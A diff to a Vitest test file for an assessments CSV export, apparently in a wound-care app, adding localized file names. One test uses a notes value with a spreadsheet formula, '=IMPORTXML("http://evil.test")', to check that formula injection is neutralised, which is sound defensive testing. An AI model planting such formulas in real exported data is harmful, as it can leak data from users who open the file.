@@ -1,8 +1,13 @@
 import { describe, expect, it } from 'vitest'
 import { csvOf } from '../../../../src/shared/csv'
 import { parseAssessment } from '../../../../src/api/schemas/assessment'
-import { ASSESSMENTS_CSV } from '../../../../src/features/assessments/assessment-csv'
+import { ASSESSMENTS_CSV, assessmentsCsv } from '../../../../src/features/assessments/assessment-csv'
+import { englishWords } from '../../../../scripts/catalogs'
+import { ROOT } from '../../../../tools/harness/paths'
 import { assessment, asJson } from '../../api/fixtures'
+
+/** The assessments' English words, from their catalog. */
+const t = englishWords(`${ROOT}/src/words`, 'assessments')
 
 /** The fixture's values with some replaced. */
 function valuesWith(id: number, patch: Record<string, unknown>) {
@@ -120,7 +125,7 @@ describe('the rows of the assessments CSV', () => {
 describe('ASSESSMENTS_CSV', () => {
   it('writes a header row, quotes free text and neutralises formulas in it', () => {
     const raw = assessment(8, { values: valuesWith(8, { notes: '=IMPORTXML("http://evil.test")\nsecond line' }) })
-    const csv = csvOf(ASSESSMENTS_CSV, [parseAssessment(raw)]).csv
+    const csv = csvOf(assessmentsCsv(t), [parseAssessment(raw)]).csv
     const [header, ...rest] = csv.split('\r\n')
     expect(header).toBe(ASSESSMENTS_CSV.headers.join(','))
     expect(rest).toHaveLength(2)
@@ -128,5 +133,10 @@ describe('ASSESSMENTS_CSV', () => {
     expect(
       rest[0]?.startsWith('8,2026-03-01,"ATTACHED; ROLLED","DRY; ERYTHEMA",0,4,10,MODERATE,SERO-SANGUINEOUS,changed twice daily,NO,YES,'),
     ).toBe(true)
+  })
+
+  it('names the file in the language shown, the data in the record’s own codes', () => {
+    expect(assessmentsCsv(t).fileName(12)).toBe(t('csvFileName', { woundId: 12 }))
+    expect(assessmentsCsv(t).fileName(12)).toBe('wound-12-assessments.csv')
   })
 })
